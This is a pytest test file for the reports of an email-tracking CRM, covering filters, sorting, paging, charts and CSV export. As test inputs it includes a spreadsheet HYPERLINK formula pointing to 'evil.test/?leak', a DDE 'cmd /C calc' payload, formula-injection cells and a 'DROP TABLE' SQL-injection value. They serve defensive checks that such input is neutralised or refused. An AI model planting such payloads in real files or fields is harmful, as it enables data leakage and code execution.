"""The reports, checked against a known dataset with hand-computed numbers.

The dataset (times UTC, March 2026):

| email | sender | sent | recipient | record | status | accesses |
| --- | --- | --- | --- | --- | --- | --- |
| E1 "Spring launch" | sam | 03-02 09:00 | ada | contact Ada (account Acme) | sent | 03-02 10:00, 03-03 11:00 + 12:00 |
| | | | alan | contact Alan (account Acme) | sent | 03-04 08:00 |
| | | | grace | lead Grace | sent | — |
| | | | x@nowhere | none | failed | — |
| E2 "=HYPERLINK(…)" | admin | 03-03 15:00 | info@globex | account Globex | sent | 03-03 16:00, 03-05 09:00 |
| | | | carl | contact Carl (no account) | sent | 03-05 10:00 |
| E3 "Spring follow-up" | tess | 03-05 08:00 | ada | contact Ada | sent | 03-05 09:30 |
| | | | grace | lead Grace | skipped | — |
| E4 "Draft news" | sam | not sent | ada | contact Ada | pending | — |
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime

import pytest

from coretrack.models import AccessEvent, Account, ClickEvent, Contact, Email, EmailLink, Lead, Recipient, User
from coretrack.reports.catalog import REPORTS
from coretrack.reports.export import csv_cell, csv_lines
from coretrack.reports.filters import parse_filters
from coretrack.tracking import click_verdicts

HYPERLINK = '=HYPERLINK("http://evil.test/?leak","Click")'


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 3, day, hour, minute)


@dataclass
class Data:
    emails: dict[str, Email]
    recipients: dict[str, Recipient]
    records: dict[str, Contact | Account | Lead]


def add_email(db, sender: User, subject: str, sent_at, recipients) -> Email:
    """``recipients``: (address, record or None, status, [access times])."""
    email = Email(subject=subject, html_body="<p>x</p>", sender=sender, from_address="crm@example.test",
                  status="sent" if sent_at else "queued", sent_at=sent_at, created_at=sent_at or at(6, 0))
    db.add(email)
    for address, record, status, accesses in recipients:
        recipient = Recipient(
            email=email, address=address, token=f"token-{subject[:8]}-{address}", status=status,
            name=record.display_name if record else "",  # as compose keeps it
            contact=record if isinstance(record, Contact) else None,
            account=record if isinstance(record, Account) else None,
            lead=record if isinstance(record, Lead) else None,
            access_count=len(accesses), first_access=min(accesses, default=None),
            last_access=max(accesses, default=None),
            # Thunderbird's loads are a person's: each one a likely-human open too.
            human_opens=len(accesses), first_human_at=min(accesses, default=None),
        )
        db.add(recipient)
        db.flush()
        db.add_all(AccessEvent(recipient_id=recipient.id, at=moment, user_agent="Thunderbird") for moment in accesses)
    return email


@pytest.fixture
def data(db, users) -> Data:
    tess = User(name="tess", role="staff")
    acme, globex = Account(name="Acme <Corp>"), Account(name="Globex", email="info@globex.test")
    ada = Contact(first_name="Ada", last_name="Lovelace", email="ada@acme.test", account=acme)
    alan = Contact(first_name="Alan", last_name="Turing", email="alan@acme.test", account=acme)
    carl = Contact(first_name="Carl", last_name="Gauss", email="carl@example.test")
    grace = Lead(first_name="Grace", last_name="Hopper", email="grace@lead.test")
    db.add_all([tess, acme, globex, ada, alan, carl, grace])
    db.flush()
    e1 = add_email(db, users["sam"], "Spring launch", at(2, 9), [
        ("ada@acme.test", ada, "sent", [at(2, 10), at(3, 11), at(3, 12)]),
        ("alan@acme.test", alan, "sent", [at(4, 8)]),
        ("grace@lead.test", grace, "sent", []),
        ("x@nowhere.test", None, "failed", []),
    ])
    e2 = add_email(db, users["admin"], HYPERLINK, at(3, 15), [
        ("info@globex.test", globex, "sent", [at(3, 16), at(5, 9)]),
        ("carl@example.test", carl, "sent", [at(5, 10)]),
    ])
    e3 = add_email(db, tess, "Spring follow-up", at(5, 8), [
        ("ada@acme.test", ada, "sent", [at(5, 9, 30)]),
        ("grace@lead.test", grace, "skipped", []),
    ])
    e4 = add_email(db, users["sam"], "Draft news", None, [("ada@acme.test", ada, "pending", [])])
    db.commit()
    recipients = {f"{email}:{r.address.split('@')[0]}": r for email, mail in
                  (("e1", e1), ("e2", e2), ("e3", e3), ("e4", e4)) for r in mail.recipients}
    return Data({"e1": e1, "e2": e2, "e3": e3, "e4": e4}, recipients,
                {"acme": acme, "globex": globex, "ada": ada, "alan": alan, "carl": carl, "grace": grace})


def api(client, report: str, expect: int = 200, **params):
    return client.get(f"/api/reports/{report}", params=params, status=expect).json


def columns(rows: list[dict], *keys: str) -> list[tuple]:
    return [tuple(row[key] for key in keys) for row in rows]


EMAIL_COLUMNS = ("subject", "sender", "sent_at", "recipients", "delivered", "opened", "open_rate", "accesses",
                 "last_access")


# -- Emails --------------------------------------------------------------------------------


def test_the_emails_report_has_one_row_per_sent_email_newest_first(staff, data):
    body = api(staff, "emails")
    assert body["total"] == 3  # the unsent E4 is not a sent email
    assert columns(body["rows"], *EMAIL_COLUMNS) == [
        ("Spring follow-up", "tess", "2026-03-05T08:00:00Z", 2, 1, 1, 100.0, 1, "2026-03-05T09:30:00Z"),
        (HYPERLINK, "admin", "2026-03-03T15:00:00Z", 2, 2, 2, 100.0, 3, "2026-03-05T10:00:00Z"),
        ("Spring launch", "sam", "2026-03-02T09:00:00Z", 4, 3, 2, 66.7, 4, "2026-03-04T08:00:00Z"),
    ]
    assert [row["email_id"] for row in body["rows"]] == [data.emails[key].id for key in ("e3", "e2", "e1")]


def test_the_emails_page_shows_the_same_numbers_linked_to_each_email(staff, data):
    page = staff.get("/reports/emails")
    assert page.status_int == 200
    rows = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select("table tbody tr")]
    # Each rate names its base; no recipient is unmeasured and no anonymous load was counted.
    assert rows[2] == ["Spring launch", "sam", "2026-03-02 09:00", "4", "3", "3", "2", "66.7% of 3 measured recipients",
                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "0", "0", "0.0% of 3 measured recipients",
                       "2026-03-04 08:00", "0", "0", "0", "0"]
    assert page.html.select("table tbody tr")[2].select_one("a")["href"] == f"/emails/{data.emails['e1'].id}"
    assert page.html.select_one("th[aria-sort]").text.strip() == "Sent at ▼"


@pytest.mark.parametrize("params, subjects", [
    ({"sender": "sam"}, ["Spring launch"]),
    ({"from": "2026-03-03", "to": "2026-03-03"}, [HYPERLINK]),  # both days inclusive: 15:00 on the 3rd is in
    ({"from": "2026-03-03"}, ["Spring follow-up", HYPERLINK]),
    ({"to": "2026-03-02"}, ["Spring launch"]),
    ({"subject": "SPRING"}, ["Spring follow-up", "Spring launch"]),
    ({"subject": "%"}, []),  # a wildcard matches only itself
    ({"record_type": "account"}, [HYPERLINK]),
    ({"status": "failed"}, ["Spring launch"]),
    ({"sender": "nobody"}, []),
])
def test_each_filter_narrows_the_emails_report(staff, data, params, subjects):
    assert [row["subject"] for row in api(staff, "emails", **params)["rows"]] == subjects


def test_filters_count_only_the_matching_recipients_of_each_email(staff, data):
    rows = api(staff, "emails", record_type="lead")["rows"]
    assert columns(rows, "subject", "recipients", "delivered", "opened", "open_rate", "accesses", "last_access") == [
        ("Spring follow-up", 1, 0, 0, None, 0, None),  # skipped: nothing delivered, no rate
        ("Spring launch", 1, 1, 0, 0.0, 0, None),
    ]


@pytest.mark.parametrize("sort, order, subjects", [
    ("accesses", "asc", ["Spring follow-up", HYPERLINK, "Spring launch"]),
    ("accesses", "desc", ["Spring launch", HYPERLINK, "Spring follow-up"]),
    ("subject", "asc", [HYPERLINK, "Spring follow-up", "Spring launch"]),
    ("open_rate", "asc", ["Spring launch", "Spring follow-up", HYPERLINK]),  # ties: newest email first
    ("sender", "desc", ["Spring follow-up", "Spring launch", HYPERLINK]),
    ("recipients", "desc", ["Spring launch", "Spring follow-up", HYPERLINK]),
])
def test_the_emails_report_sorts_by_any_column(staff, data, sort, order, subjects):
    assert [row["subject"] for row in api(staff, "emails", sort=sort, order=order)["rows"]] == subjects


def test_a_column_header_sorts_by_it_and_a_second_click_reverses(staff, data):
    page = staff.get("/reports/emails?sender=sam")
    link = page.html.find("a", string="Accesses")["href"]
    assert link == "/reports/emails?sender=sam&sort=accesses&order=desc"  # numbers: most first
    header = staff.get(link).html.select_one("th[aria-sort]")
    assert header["aria-sort"] == "descending"
    assert header.select_one("a")["href"] == "/reports/emails?sender=sam&sort=accesses&order=asc"


# -- Recipients ----------------------------------------------------------------------------


def test_the_recipients_report_lists_every_recipient_of_sent_email_latest_access_first(staff, data):
    body = api(staff, "recipients")
    assert body["total"] == 8
    assert columns(body["rows"], "subject", "address", "record_type", "record", "status", "accesses",
                   "first_access", "last_access") == [
        (HYPERLINK, "carl@example.test", "contact", "Carl Gauss", "sent", 1, "2026-03-05T10:00:00Z",
         "2026-03-05T10:00:00Z"),
        ("Spring follow-up", "ada@acme.test", "contact", "Ada Lovelace", "sent", 1, "2026-03-05T09:30:00Z",
         "2026-03-05T09:30:00Z"),
        (HYPERLINK, "info@globex.test", "account", "Globex", "sent", 2, "2026-03-03T16:00:00Z",
         "2026-03-05T09:00:00Z"),
        ("Spring launch", "alan@acme.test", "contact", "Alan Turing", "sent", 1, "2026-03-04T08:00:00Z",
         "2026-03-04T08:00:00Z"),
        ("Spring launch", "ada@acme.test", "contact", "Ada Lovelace", "sent", 3, "2026-03-02T10:00:00Z",
         "2026-03-03T12:00:00Z"),
        # Never opened: last, newest recipient first.
        ("Spring follow-up", "grace@lead.test", "lead", "Grace Hopper", "skipped", 0, None, None),
        ("Spring launch", "x@nowhere.test", None, None, "failed", 0, None, None),
        ("Spring launch", "grace@lead.test", "lead", "Grace Hopper", "sent", 0, None, None),
    ]


@pytest.mark.parametrize("params, expected", [
    ({"status": "failed"}, ["e1:x"]),
    ({"status": "skipped"}, ["e3:grace"]),
    ({"record_type": "lead"}, ["e3:grace", "e1:grace"]),
    ({"sender": "admin"}, ["e2:carl", "e2:info"]),
    ({"subject": "follow"}, ["e3:ada", "e3:grace"]),
    ({"from": "2026-03-05", "to": "2026-03-05"}, ["e3:ada", "e3:grace"]),
    # Ties: the newest recipient first.
    ({"sort": "accesses", "order": "desc", "record_type": "contact"}, ["e1:ada", "e3:ada", "e2:carl", "e1:alan"]),
    ({"sort": "address", "order": "asc", "sender": "sam"}, ["e1:ada", "e1:alan", "e1:grace", "e1:x"]),
    ({"sort": "record", "order": "asc", "sender": "sam"}, ["e1:ada", "e1:alan", "e1:grace", "e1:x"]),
    ({"sort": "first_access", "order": "asc", "status": "sent", "sender": "sam"}, ["e1:ada", "e1:alan", "e1:grace"]),
])
def test_the_recipients_report_filters_and_sorts(staff, data, params, expected):
    ids = {recipient.id: key for key, recipient in data.recipients.items()}
    assert [ids[row["recipient_id"]] for row in api(staff, "recipients", **params)["rows"]] == expected


def test_pages_follow_the_sort_without_overlap(staff, data):
    pages = [api(staff, "recipients", per_page=3, page=number) for number in (1, 2, 3)]
    assert [(body["page"], body["pages"], body["total"], len(body["rows"])) for body in pages] == [
        (1, 3, 8, 3), (2, 3, 8, 3), (3, 3, 8, 2)]
    ids = [row["recipient_id"] for body in pages for row in body["rows"]]
    assert ids == [row["recipient_id"] for row in api(staff, "recipients")["rows"]]


def test_the_pages_are_cut_by_the_page_size_setting(staff, data, db, config):
    from coretrack.settings import SettingsService

    SettingsService(db, config).update({"page_size": "5"}, user_name="test")
    page = staff.get("/reports/recipients?status=sent")
    assert len(page.html.select("table tbody tr")) == 5
    assert "Page 1 of 2 (6 rows)" in page.html.select_one("nav.pager").text
    second = staff.get(page.html.select_one("a[rel=next]")["href"])
    assert len(second.html.select("table tbody tr")) == 1


# -- Records -------------------------------------------------------------------------------

RECORD_COLUMNS = ("record", "emails", "opened", "accesses", "last_access")


def test_the_records_report_lists_contacts_unless_asked_for_accounts_or_leads(staff, data):
    contacts = api(staff, "records")
    assert contacts["filters"]["record_type"] == "contact"
    assert columns(contacts["rows"], *RECORD_COLUMNS) == [
        ("Ada Lovelace", 2, 2, 4, "2026-03-05T09:30:00Z"),
        ("Alan Turing", 1, 1, 1, "2026-03-04T08:00:00Z"),  # ties: by name
        ("Carl Gauss", 1, 1, 1, "2026-03-05T10:00:00Z"),
    ]
    assert [row["record_id"] for row in contacts["rows"]] == [data.records[key].id for key in ("ada", "alan", "carl")]
    assert columns(api(staff, "records", record_type="lead")["rows"], *RECORD_COLUMNS) == [
        ("Grace Hopper", 2, 0, 0, None)]


def test_an_account_rolls_up_email_to_it_and_to_its_contacts_counting_each_email_once(staff, data):
    # Acme: Ada and Alan both got E1, Ada got E3.  Globex got E2 at its own address.
    assert columns(api(staff, "records", record_type="account")["rows"], *RECORD_COLUMNS) == [
        ("Acme <Corp>", 2, 2, 5, "2026-03-05T09:30:00Z"),
        ("Globex", 1, 1, 2, "2026-03-05T09:00:00Z"),
    ]


@pytest.mark.parametrize("params, expected", [
    ({"sender": "tess"}, [("Ada Lovelace", 1, 1, 1)]),
    ({"sender": "tess", "record_type": "account"}, [("Acme <Corp>", 1, 1, 1)]),
    ({"sender": "tess", "record_type": "lead"}, [("Grace Hopper", 1, 0, 0)]),
    ({"status": "skipped", "record_type": "lead"}, [("Grace Hopper", 1, 0, 0)]),
    ({"status": "failed"}, []),
    ({"subject": "launch"}, [("Ada Lovelace", 1, 1, 3), ("Alan Turing", 1, 1, 1)]),
    ({"to": "2026-03-02", "record_type": "account"}, [("Acme <Corp>", 1, 1, 4)]),
    ({"from": "2026-03-03", "record_type": "account"}, [("Globex", 1, 1, 2), ("Acme <Corp>", 1, 1, 1)]),
    ({"sort": "record", "order": "desc"},
     [("Carl Gauss", 1, 1, 1), ("Alan Turing", 1, 1, 1), ("Ada Lovelace", 2, 2, 4)]),
    ({"sort": "last_access", "order": "desc"},
     [("Carl Gauss", 1, 1, 1), ("Ada Lovelace", 2, 2, 4), ("Alan Turing", 1, 1, 1)]),
    ({"sort": "emails", "order": "asc", "sender": "sam"}, [("Ada Lovelace", 1, 1, 3), ("Alan Turing", 1, 1, 1)]),
])
def test_the_records_report_filters_and_sorts(staff, data, params, expected):
    assert columns(api(staff, "records", **params)["rows"], "record", "emails", "opened", "accesses") == expected


def test_the_records_page_links_each_record_and_escapes_names(staff, data):
    page = staff.get("/reports/records?record_type=account")
    link = page.html.select_one("table tbody tr a")
    assert (link.text, link["href"]) == ("Acme <Corp>", f"/accounts/{data.records['acme'].id}")
    assert "Acme &lt;Corp&gt;" in page.text


# -- Activity ------------------------------------------------------------------------------

WEEK = {"from": "2026-03-01", "to": "2026-03-07"}


def test_activity_counts_accesses_and_distinct_recipients_per_day_with_empty_days(staff, data):
    body = api(staff, "activity", **WEEK)
    assert columns(body["rows"], "bucket", "accesses", "unique_opens") == [
        ("2026-03-01", 0, 0), ("2026-03-02", 1, 1), ("2026-03-03", 3, 2), ("2026-03-04", 1, 1),
        ("2026-03-05", 3, 3), ("2026-03-06", 0, 0), ("2026-03-07", 0, 0),
    ]
    assert (body["from"], body["to"], body["by"]) == ("2026-03-01", "2026-03-07", "day")
    assert (body["total_accesses"], body["unique_recipients"]) == (8, 5)


def test_activity_counts_clicks_and_likely_human_clicks_per_day_and_hour_beside_the_loads(db, staff, data):
    ada, carl = data.recipients["e1:ada"], data.recipients["e2:carl"]
    link = EmailLink(email_id=ada.email_id, position=0, url="https://example.test/a")
    db.add(link)
    db.flush()
    db.add_all([ClickEvent(recipient_id=ada.id, link_id=link.id, at=at(3, 11, 5), hits=2),
                ClickEvent(recipient_id=ada.id, link_id=link.id, at=at(3, 11, 6), verdict="scanner",
                           reason=click_verdicts.BURST_REASON),
                ClickEvent(recipient_id=carl.id, link_id=link.id, at=at(5, 23, 59), verdict="scanner",
                           reason="headless browser", hits=3)])
    db.commit()
    body = api(staff, "activity", **WEEK)
    assert columns(body["rows"], "bucket", "accesses", "clicks", "human_clicks")[1:5] == [
        ("2026-03-02", 1, 0, 0), ("2026-03-03", 3, 3, 2), ("2026-03-04", 1, 0, 0), ("2026-03-05", 3, 3, 0)]
    assert (body["total_clicks"], body["total_human_clicks"]) == (6, 2)
    hours = api(staff, "activity", by="hour", **{"from": "2026-03-05", "to": "2026-03-05"}, per_page=50)["rows"]
    assert [(row["bucket"], row["clicks"]) for row in hours if row["clicks"]] == [("2026-03-05 23:00", 3)]
    # Only the emails the filters keep: tess sent none of the clicked ones.
    assert api(staff, "activity", sender="tess", **WEEK)["total_clicks"] == 0
    page = staff.get("/reports/activity", params=WEEK)
    assert "6 clicks, 2 likely by a person" in page.html.select_one("#report-summary").text
    csv_rows = list(csv.reader(io.StringIO(staff.get("/reports/activity.csv", params=WEEK).body.decode("utf-8-sig"))))
    assert csv_rows[3] == ["2026-03-03", "3", "2", "3", "3", "2", "0"]


def test_activity_counts_every_load_an_event_stands_for(app, db, staff, data):
    from coretrack.tracking.hits import Hit

    # Thirty loads of one recipient in one minute: ten event rows, the last standing for twenty-one.
    recipient = data.recipients["e2:carl"]
    app.tracker.record([Hit(recipient.token, at(6, 14, 5).replace(second=second), "192.0.2.1", "Mail")
                        for second in range(30)])
    rows = {row["bucket"]: (row["accesses"], row["unique_opens"]) for row in api(staff, "activity", **WEEK)["rows"]}
    assert rows["2026-03-06"] == (30, 1)
    page = staff.get(f"/emails/{data.emails['e2'].id}")
    assert "and 20 more that minute" in page.text


@pytest.mark.parametrize("params, busy_days, totals", [
    ({"sender": "admin"}, [("2026-03-03", 1, 1), ("2026-03-05", 2, 2)], (3, 2)),
    ({"record_type": "contact"}, [("2026-03-02", 1, 1), ("2026-03-03", 2, 1), ("2026-03-04", 1, 1),
                                  ("2026-03-05", 2, 2)], (6, 4)),
    ({"subject": "follow"}, [("2026-03-05", 1, 1)], (1, 1)),
    ({"status": "skipped"}, [], (0, 0)),
    ({"from": "2026-03-04", "to": "2026-03-05"}, [("2026-03-04", 1, 1), ("2026-03-05", 3, 3)], (4, 4)),
])
def test_activity_filters(staff, data, params, busy_days, totals):
    body = api(staff, "activity", **{**WEEK, **params})
    assert [row for row in columns(body["rows"], "bucket", "accesses", "unique_opens") if row[1]] == busy_days
    assert (body["total_accesses"], body["unique_recipients"]) == totals


def test_activity_per_hour_and_sorted_by_accesses(staff, data):
    body = api(staff, "activity", by="hour", **{"from": "2026-03-03", "to": "2026-03-03"}, per_page=200)
    assert len(body["rows"]) == 24
    assert [row for row in columns(body["rows"], "bucket", "accesses") if row[1]] == [
        ("2026-03-03 11:00", 1), ("2026-03-03 12:00", 1), ("2026-03-03 16:00", 1)]
    top = api(staff, "activity", sort="accesses", order="desc", per_page=2, **WEEK)["rows"]
    assert columns(top, "bucket", "accesses") == [("2026-03-05", 3), ("2026-03-03", 3)]


def test_activity_without_dates_covers_the_last_30_days(staff, data):
    body = api(staff, "activity", per_page=50)
    assert len(body["rows"]) == 30 and body["rows"][-1]["bucket"] == body["to"]


def test_a_range_too_long_for_the_chart_is_refused(staff, data):
    assert api(staff, "activity", 400, by="hour", **{"from": "2026-03-01", "to": "2026-03-08"})["fields"] == {
        "by": "per hour covers at most 7 days: shorten the range"}
    assert "at most 400 days" in api(staff, "activity", 400, **{"from": "2020-01-01", "to": "2026-01-01"})[
        "fields"]["to"]


def test_the_activity_page_draws_an_accessible_svg_chart_beside_its_numbers(staff, data):
    page = staff.get("/reports/activity", params=WEEK)
    svg = page.html.select_one("svg")
    assert svg["role"] == "img"
    assert svg["aria-label"].startswith("Accesses and unique opens per day, 2026-03-01 to 2026-03-07 (UTC): "
                                        "8 accesses by 5 measured recipients")
    assert svg.select_one("title").text.startswith("Accesses and unique opens per day")
    bars = svg.select("rect > title")
    assert [bar.text for bar in bars][2] == "2026-03-03: 3 accesses, 2 unique opens, 0 clicks"
    assert len(svg.select_one("polyline")["points"].split()) == 7
    heights = [float(rect["height"]) for rect in svg.select("rect") if rect.select_one("title")]
    assert heights[2] == heights[4] == max(heights) and heights[0] == 0  # 3 accesses on the 3rd and the 5th
    table = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select(".activity tbody tr")]
    assert table[2] == ["2026-03-03", "3", "2", "3", "0", "0", "0"]  # no click, no anonymous load
    # Drawn on the server: nothing to run, nothing fetched.
    assert not svg.select("script") and "http" not in svg.decode().replace("http://www.w3.org/2000/svg", "")


# -- CSV -----------------------------------------------------------------------------------


def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
    response = staff.get("/reports/emails.csv", params={"sort": "accesses", "order": "desc"})
    assert response.content_type == "text/csv" and response.charset == "utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="coretrack-emails-')
    assert response.body == (
        '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Measured recipients","Opened",'
        '"Open rate (% of measured)","Loaded the image","Load rate (% of measured)","Accesses","Likely-human opens",'
        '"Clicks","Likely-human clicks","Clicked","Click rate (% of measured)","Last access (UTC)",'
        '"Unmeasured recipients","Anonymous loads",'
        '"Anonymous likely-human loads","Anonymous clicks"\r\n'
        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0","0","0","0.0",'
        '"2026-03-04 08:00:00","0","0","0","0"\r\n'
        '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","2","100.0",'
        '"2","100.0","3","3","0","0","0","0.0","2026-03-05 10:00:00","0","0","0","0"\r\n'
        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0","0","0",'
        '"0.0","2026-03-05 09:30:00","0","0","0","0"\r\n'
    ).encode("utf-8")


def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
    body = staff.get("/reports/records.csv", params={"record_type": "account"}).body
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        ["Record", "Measured emails", "Opened", "Loaded the image", "Accesses", "Likely-human opens", "Clicks",
         "Likely-human clicks", "Last access (UTC)"],
        ["Acme <Corp>", "2", "2", "2", "5", "5", "0", "0", "2026-03-05 09:30:00"],
        ["Globex", "1", "1", "1", "2", "2", "0", "0", "2026-03-05 09:00:00"],
    ]
    recipients = list(csv.reader(io.StringIO(
        staff.get("/reports/recipients.csv", params={"status": "failed"}).body.decode("utf-8-sig"))))
    assert recipients == [
        ["Email", "Address", "Record type", "Related record", "Status", "Reading measured", "Accesses",
         "Likely-human opens", "Clicks", "Likely-human clicks", "First access (UTC)", "Last access (UTC)"],
        ["Spring launch", "x@nowhere.test", "", "", "failed", "yes", "0", "0", "0", "0", "", ""],
    ]
    activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(activity)))[:4] == [
        ["Time (UTC)", "Accesses", "Unique opens", "Likely-human opens", "Clicks", "Likely-human clicks",
         "Anonymous loads"],
        ["2026-03-01", "0", "0", "0", "0", "0", "0"], ["2026-03-02", "0", "0", "0", "0", "0", "0"],
        ["2026-03-03", "1", "1", "1", "0", "0", "0"]]


def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
    page = staff.get("/reports/recipients?status=sent&sort=address&order=asc&page=2")
    csv_link = page.html.find("a", string="Download CSV")["href"]
    assert csv_link == "/reports/recipients.csv?status=sent&sort=address&order=asc"


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("", ""), (None, ""), (7, 7), (66.7, 66.7), (at(5, 9, 30), "2026-03-05 09:30:00"),
    # A spreadsheet may split a cell on any of , ; tab | or a line break, and trim spaces: each part is a cell.
    ("Q3;=1+1", "Q3;'=1+1"), ("a,+1", "a,'+1"), ("a\t-1", "a\t'-1"), ("x|@SUM(A1)", "x|'@SUM(A1)"),
    ("a\n=1", "a\n'=1"), ("a\r\n=1", "a\r\n'=1"), ("  =1", "  '=1"), ("a;  =1", "a;  '=1"),
    ("Smith - Jones", "Smith - Jones"), ("Q3 = good", "Q3 = good"), ("ann@example.test", "ann@example.test"),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(value, cell):
    assert csv_cell(value) == cell


FORMULA_STARTS = ("=", "+", "-", "@")


def test_every_csv_cell_is_quoted_and_no_part_a_spreadsheet_might_split_off_starts_a_formula(staff, data, db):
    ada = data.records["ada"]
    ada.last_name = "Lovelace;=1+1"
    add_email(db, data.recipients["e1:ada"].email.sender, "Q3;=cmd|' /C calc'!A0", at(6, 9), [
        ("ada@acme.test", ada, "sent", [at(6, 10)]),
        ("bob@example.test", None, "failed", []),
    ])
    db.commit()
    for report in ("emails", "recipients", "records"):
        text = staff.get(f"/reports/{report}.csv", params={"sort": "last_access", "order": "desc"}).body \
            .decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        assert any("=1+1" in cell or "=cmd" in cell for cell in rows[1]), (report, rows[1])
        for line in text.split("\r\n")[:-1]:
            # Quoted: a spreadsheet that honours quotes keeps every cell whole, whatever its separator.
            assert line.startswith('"') and line.endswith('"'), line
            assert len(list(csv.reader([line], quoting=csv.QUOTE_ALL))[0]) == len(rows[0])
        # One that does not honour quotes, splitting on any of these, still finds no formula.
        for separator in (",", ";", "\t", "|", "\n"):
            for part in text.split(separator):
                assert not part.strip(' "\r\n').startswith(FORMULA_STARTS), (report, separator, part)


def test_a_long_csv_is_streamed_in_chunks_with_every_row(app, data, db):
    report = REPORTS["recipients"]
    chunks = list(csv_lines(app.Session, report, parse_filters({}, report=report), chunk_rows=3))
    assert len(chunks) == 3  # rows 1-3, 4-6, then 7-8
    assert b"".join(chunks).count(b"\r\n") == 9


# -- access and bad input ------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/reports/emails", "/reports/activity.csv", "/api/reports/records"])
def test_reports_need_an_identity_and_both_roles_may_read_them(anon, staff, admin, data, path):
    anon.get(path, status=401)
    staff.get(path, status=200)
    admin.get(path, status=200)


def test_reports_start_at_the_emails_report(staff):
    assert staff.get("/reports", status=303).headers["Location"].endswith("/reports/emails")


@pytest.mark.parametrize("params, field", [
    ({"sort": "subject; DROP TABLE emails"}, "sort"),
    ({"sort": "address"}, "sort"),  # a column of another report
    ({"order": "sideways"}, "order"),
    ({"from": "2026-02-30"}, "from"),
    ({"from": "2026-03-05", "to": "2026-03-01"}, "to"),
    ({"status": "opened"}, "status"),
    ({"record_type": "user"}, "record_type"),
    ({"per_page": "0"}, "per_page"),
])
def test_bad_filters_are_refused_by_field(staff, data, params, field):
    assert field in api(staff, "emails", 400, **params)["fields"]


def test_a_page_with_bad_filters_says_what_is_wrong_and_still_shows_the_report(staff, data):
    page = staff.get("/reports/emails?from=yesterday&sort=evil", status=400)
    assert page.html.select_one("#e-from").text == "enter a date as YYYY-MM-DD from 1900-01-01 to 9998-12-31"
    assert len(page.html.select("table tbody tr")) == 3
    staff.get("/reports/emails.csv?sort=evil", status=400)


@pytest.mark.parametrize("path", ["/reports/activity", "/reports/activity.csv", "/api/reports/activity"])
def test_every_output_of_activity_refuses_a_range_past_its_cap_with_a_400_naming_it(staff, path):
    # Per hour over 31 years once drew the page one SELECT per day (SQLite refused the compound SELECT).
    response = staff.get(path, {"by": "hour", "from": "2000-01-01", "to": "2030-12-31"}, status=400)
    assert "per hour covers at most 7 days" in response.text and "at most 400 days" in response.text
    assert "at most 400 days" in staff.get(path, {"from": "2000-01-01", "to": "2030-12-31"}, status=400).text
    assert "at most 400 days" in staff.get(path, {"from": "2000-01-01"}, status=400).text
    assert "is before its start" in staff.get(path, {"from": "2999-01-01"}, status=400).text
